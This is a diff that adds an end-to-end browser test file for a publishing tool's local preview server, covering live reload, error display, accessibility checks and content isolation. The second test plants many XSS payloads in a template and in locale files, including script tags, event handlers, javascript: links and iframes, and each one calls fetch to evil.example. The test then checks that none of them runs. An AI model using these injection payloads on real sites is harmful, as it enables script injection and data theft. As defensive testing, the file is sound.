@@ -1,0 +1,183 @@
+import { spawn, type ChildProcess } from 'node:child_process';
+import { once } from 'node:events';
+import { readFile, writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import puppeteer, { type Browser, type Page } from 'puppeteer-core';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
+import { embeddedEnvironment } from '../../src/io/browser/embedded.js';
+import { locateBrowser } from '../../src/io/browser/locate.js';
+import { thisMachine } from '../../src/io/browser/machine.js';
+import { copyOfTheReal, ROOT, spawnPublish, temporaryFolder } from '../publication.js';
+import { folderWith, STATEMENT } from '../hostile/folder.js';
+
+const axe = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
+const RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
+
+let browser: Browser;
+
+// What prints has no network at all; this one reaches the desk.
+beforeAll(async () => {
+  const { executable, embedded } = await locateBrowser(undefined, thisMachine());
+  browser = await puppeteer.launch({
+    executablePath: executable,
+    args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1'],
+    env: embedded === undefined ? process.env : embeddedEnvironment(embedded, temporaryFolder()),
+  });
+});
+
+afterAll(() => browser.close());
+
+const ended: (() => Promise<unknown>)[] = [];
+
+afterEach(async () => {
+  await Promise.all(ended.splice(0).map((end) => end()));
+});
+
+/** Starts the real command, and gives the address that it prints. */
+async function startDesk(
+  folder: string,
+): Promise<{ readonly child: ChildProcess; readonly address: string }> {
+  const bin = join(ROOT, 'bin/publish.js');
+  const child = spawn(process.execPath, [bin, '-C', folder, 'preview', '--no-open'], {
+    stdio: ['ignore', 'pipe', 'ignore'],
+  });
+  ended.push(() => Promise.resolve(child.kill('SIGKILL')));
+  let said = '';
+  for await (const chunk of child.stdout as AsyncIterable<Buffer>) {
+    said += chunk.toString();
+    const address = /http:\S+/u.exec(said)?.[0];
+    if (address !== undefined) return { child, address };
+  }
+  throw new Error('The desk did not start.');
+}
+
+/** A page of the browser, and every address that it has really asked for. */
+async function openPage(address: string): Promise<{ readonly page: Page; readonly asked: string[] }> {
+  const context = await browser.createBrowserContext();
+  const page = await context.newPage();
+  ended.push(() => context.close());
+  const asked: string[] = [];
+  const network = await page.createCDPSession();
+  const urls = new Map<string, string>();
+  network.on('Network.requestWillBeSent', ({ requestId, request }) => {
+    urls.set(requestId, request.url);
+    asked.push(request.url);
+  });
+  network.on('Network.loadingFailed', ({ requestId, blockedReason }) => {
+    // What the policy of a page stops does not leave the browser.
+    if (blockedReason === 'csp') asked.splice(asked.indexOf(urls.get(requestId) ?? ''), 1);
+  });
+  await network.send('Network.enable');
+  page.on('dialog', (dialog) => {
+    asked.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.setViewport({ width: 1280, height: 800 });
+  await page.goto(address);
+  await page.waitForFunction(
+    `document.querySelector('iframe') !== null && ${FRAME}?.readyState === 'complete' && ${FRAME}.querySelector('article h1') !== null`,
+  );
+  return { page, asked };
+}
+
+const FRAME = `document.querySelector('iframe').contentDocument`;
+
+/** Whether the article that is shown is that of the file as it is served, element by element. */
+const IS_SERVED = `fetch(${FRAME}.location.href).then((answer) => answer.text()).then((html) => {
+  const served = new DOMParser().parseFromString(html, 'text/html');
+  return served.querySelector('article').outerHTML === ${FRAME}.querySelector('article').outerHTML;
+})`;
+
+test('a saved file is on the page where the reader was; a fault keeps the last good page; it is usable by all', async () => {
+  const folder = await copyOfTheReal();
+  const { child, address } = await startDesk(folder);
+  const { page } = await openPage(address);
+  expect(page.url()).not.toContain('token');
+  expect(await page.evaluate(IS_SERVED)).toBe(true);
+
+  const last = `${FRAME}.querySelector('.signatories li:last-child')`;
+  await page.evaluate(`${last}.scrollIntoView({ block: 'center' })`);
+  const place = `Math.round(${last}.getBoundingClientRect().top)`;
+  const before = await page.evaluate(place);
+  await page.evaluate(`${FRAME}.querySelector('article').isTheSame = true`);
+  const file = join(folder, 'locales/en/statement.md');
+  const original = await readFile(file, 'utf8');
+  await writeFile(
+    file,
+    original.replace('In recent weeks', 'A paragraph before all others.\n\nIn recent weeks'),
+  );
+  await page.waitForFunction(`${FRAME}.body.textContent.includes('A paragraph before all others.')`);
+  expect(await page.evaluate(place)).toBe(before);
+  expect(await page.evaluate(`${FRAME}.querySelector('article').isTheSame`)).toBe(true);
+  expect(await page.evaluate(IS_SERVED)).toBe(true);
+
+  await writeFile(join(folder, 'locales/fa/statement.json'), '{ "cut o');
+  await page.waitForSelector('.refusal');
+  expect(await page.evaluate(`document.querySelector('.refusal').textContent`)).toContain(
+    'locales/fa/statement.json:1',
+  );
+  expect(await page.evaluate(`${FRAME}.querySelector('article h1') !== null`)).toBe(true);
+
+  const axeSource = await readFile(axe, 'utf8');
+  for (const [language, width, scheme] of [
+    ['fa-AF', 1280, 'light'],
+    ['en', 360, 'dark'],
+  ] as const) {
+    await page.setViewport({ width, height: 800 });
+    await page.select('select', language);
+    await page.click(`button[data-value=${scheme}]`);
+    await page.evaluate(axeSource);
+    const found =
+      await page.evaluate(`axe.run({ exclude: ['iframe'] }, ${JSON.stringify({ runOnly: RULES, iframes: false })})
+      .then(({ violations }) => violations.map(({ id, nodes }) => id + ': ' + nodes.map(({ html }) => html).join(' ')))`);
+    expect([language, found]).toEqual([language, []]);
+    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+    expect(await page.evaluate('document.documentElement.dir')).toBe(language === 'en' ? 'ltr' : 'rtl');
+  }
+
+  const second = await spawnPublish(['-C', folder, 'preview', '--no-open']);
+  expect(second.code).toBe(2);
+  expect(second.stderr).toContain('A desk is already open on this publication, at http://127.0.0.1:');
+  child.kill('SIGINT');
+  expect(await once(child, 'exit')).toEqual([0, null]);
+});
+
+const RUN = 'fetch("https://evil.example/run"),alert("run")';
+
+test('nothing in a hostile publication runs, leaves the desk or asks another host', async () => {
+  const page_ = `<!doctype html><html lang="{{lang}}" dir="{{dir}}"><head><title>{{title}}</title>
+<meta http-equiv="refresh" content="0; url=https://evil.example/refresh"><base href="https://evil.example/base/">
+<link rel="stylesheet" href="https://evil.example/page.css"><script src="https://evil.example/a.js"></script>
+<style>body { background: url(https://evil.example/b.png) } @import 'https://evil.example/c.css';</style></head>
+<body onload='${RUN}'><script>${RUN}</script><img src="https://evil.example/d.png" onerror='${RUN}'>
+<iframe src="https://evil.example/e"></iframe><iframe srcdoc="<script>${RUN.replaceAll('"', '&quot;')}</script>"></iframe>
+<form action="https://evil.example/f" method="post"><button>send</button></form>
+<a id="js" href='javascript:${RUN}'>go</a><a id="top" target="_top" href="https://evil.example/g">go</a>
+<a id="out" href="https://evil.example/h">go</a><object data="https://evil.example/i"></object>
+<svg><script>${RUN}</script><animate onbegin='${RUN}' /></svg><main><article><h1>{{{heading.html}}}</h1>{{{body}}}</article></main></body></html>`;
+  const folder = await folderWith({
+    'templates/page.mustache': page_,
+    'locales/en/statement.md': STATEMENT.replace(
+      'We ask for water.',
+      `<script>${RUN}</script> [go](javascript:alert(1)) ![x](x.svg)`,
+    ),
+    'locales/en/x.svg': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9"/></svg>`,
+    'locales/fa/statement.json': JSON.stringify({ 'the-river-is-ours': `<img src=x onerror='${RUN}'>رود` }),
+  });
+  const { address } = await startDesk(folder);
+  const { page, asked } = await openPage(address);
+  for (const link of ['#js', '#top', '#out', 'form button']) {
+    await page.evaluate(`${FRAME}?.querySelector('${link}')?.click()`);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  await writeFile(
+    join(folder, 'locales/en/statement.md'),
+    STATEMENT.replace('We ask', `<img src=x onerror='${RUN}'> We`),
+  );
+  await page.waitForSelector('.findings li');
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  const own = new URL(address).origin;
+  expect(new URL(page.url()).origin).toBe(own);
+  expect(asked.filter((url) => !url.startsWith(own))).toEqual([]);
+});
